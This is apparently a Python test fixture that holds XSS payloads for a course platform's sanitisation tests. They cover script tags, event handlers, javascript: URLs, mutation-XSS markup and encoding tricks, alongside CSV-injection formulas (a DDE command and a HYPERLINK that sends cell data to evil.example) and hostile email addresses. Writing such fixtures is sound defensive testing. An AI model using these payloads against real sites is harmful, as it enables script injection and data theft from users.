"""Hostile text for every place a person or a trainer can write something the course
shows again: lesson Markdown, exercise questions, answers, names, team and organisation
names, invitation addresses and the managers' CSV.

Every payload, if it ran, would call `alert(1)` (a dialog the browser test listens for)
or set `window.__xss` (a canary it reads back). Each is at most 150 characters, the
length of a person's name, and none holds a line break or control character that the
name field refuses: the same list goes through every channel. Where a payload needs a
character a name cannot hold (a NUL, a line separator) it is in MARKDOWN_ONLY.
"""

PAYLOADS: dict[str, str] = {
    # Script elements.
    "script": "<script>alert(1)</script>",
    "script mixed case": "<ScRiPt>window.__xss=1</sCrIpT>",
    "script with src": '<script src="data:text/javascript,alert(1)"></script>',
    "script in text": "Sam <script>window.__xss=1</script> Patel",
    "script split tag": "<scr<script>ipt>alert(1)</script>",
    # Event handler attributes.
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror quoted": '<img src="x" onerror="window.__xss=1">',
    "img onerror mixed case": "<IMG SRC=x OnErRoR=alert(1)>",
    "img onerror slash": "<img/src=x/onerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "svg onload slash": "<svg/onload=window.__xss=1>",
    "body onload": "<body onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "input autofocus onfocus": "<input autofocus onfocus=alert(1)>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "allowed tag with handler": '<p onmouseover="alert(1)">hover</p>',
    # Breaking out of an attribute or a text context.
    "attribute breakout double": '"><img src=x onerror=alert(1)>',
    "attribute breakout single": "'><svg onload=alert(1)>",
    "attribute breakout unquoted": "x onfocus=alert(1) autofocus x=",
    "textarea breakout": "</textarea><img src=x onerror=alert(1)>",
    "title breakout": "</title><script>alert(1)</script>",
    "script string breakout": "';alert(1);//\";alert(1);//",
    "json script breakout": "</script><script>window.__xss=1</script>",
    "backtick attribute": "<img src=`x` onerror=`alert(1)`>",
    "template literal": "${alert(1)}{{7*7}}{% debug %}",
    # javascript:, vbscript: and data: URLs, in Markdown and in HTML.
    "markdown link javascript": "[click me](javascript:alert(1))",
    "markdown image javascript": "![x](javascript:alert(1))",
    "markdown link data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown autolink": "<javascript:alert(1)>",
    "markdown link entity encoded": "[click](&#106;avascript:alert(1))",
    "html link javascript": '<a href="javascript:alert(1)">click</a>',
    "html link mixed case": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "html link entities": '<a href="&#x6A;&#x61;vascript&#58;alert(1)">click</a>',
    "html link tab inside": '<a href="java&#9;script:alert(1)">click</a>',
    "html link leading space": '<a href=" javascript:alert(1)">click</a>',
    "html link vbscript": '<a href="vbscript:msgbox(1)">click</a>',
    "html link data": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "bare javascript url": "javascript:alert(1)",
    "form action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">go</button>',
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "embed src": '<embed src="javascript:alert(1)">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="javascript:alert(1)//">',
    "svg use href": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "svg animate href": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text y=20>click</text></a></svg>"
    ),
    "svg xlink href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    # CSS.
    "style expression": '<div style="width:expression(alert(1))">x</div>',
    "style url javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "style element import": "<style>@import 'javascript:alert(1)';</style>",
    # Mutation XSS: markup a sanitiser and a browser read differently.
    "mxss noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mxss style in svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mxss template": "<template><img src=x onerror=alert(1)></template>",
    "mxss math namespace": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
        "</mglyph></table></mtext></math>"
    ),
    "mxss math style": "<math><style><img src=x onerror=alert(1)></style></math>",
    "mxss comment": "<!--><img src=x onerror=alert(1)>-->",
    "mxss cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "mxss textarea title": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    # Encodings.
    "html entities": "&lt;img src=x onerror=alert(1)&gt;",
    "double encoded": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "unicode escapes": "\\u003cimg src=x onerror=alert(1)\\u003e",
    "fullwidth brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
}

# Hostile text that a name cannot hold (it refuses control characters and line
# separators), for the places that take free text: lessons, questions and answers.
MARKDOWN_ONLY: dict[str, str] = {
    "markdown reference link": "[click][xss]\n\n[xss]: javascript:alert(1)",
    "null byte in tag": "<scr\x00ipt>alert(1)</script>",
    "null byte in scheme": '<a href="java\x00script:alert(1)">click</a>',
    "line separator in scheme": "[click](java\u2028script:alert(1))",
    "paragraph separator breakout": "\u2029<img src=x onerror=alert(1)>",
    "newline in link": '<a href="java\nscript:alert(1)">click</a>',
}

# Cells a spreadsheet would run as a formula (CSV injection).
FORMULAS: dict[str, str] = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
}

# Email addresses an invitation form takes or refuses: a quoted local part may hold
# almost anything and still be a valid address.
ADDRESSES: dict[str, str] = {
    "quoted img onerror": '"<img src=x onerror=alert(1)>"@example.org',
    "quoted script": '"<script>alert(1)</script>"@example.org',
    "quoted attribute breakout": '"\\"><svg onload=alert(1)>"@example.org',
    "quoted javascript": '"javascript:alert(1)"@example.org',
    "invalid script": "<script>alert(1)</script>@example.org",
    "invalid breakout": 'x@example.org"><img src=x onerror=alert(1)>',
    "invalid javascript": "javascript:alert(1)//@example.org",
}

EVERY_TEXT: dict[str, str] = PAYLOADS | MARKDOWN_ONLY
# What a database can store (PostgreSQL refuses a NUL in text).
STORABLE: dict[str, str] = {name: text for name, text in EVERY_TEXT.items() if "\x00" not in text}
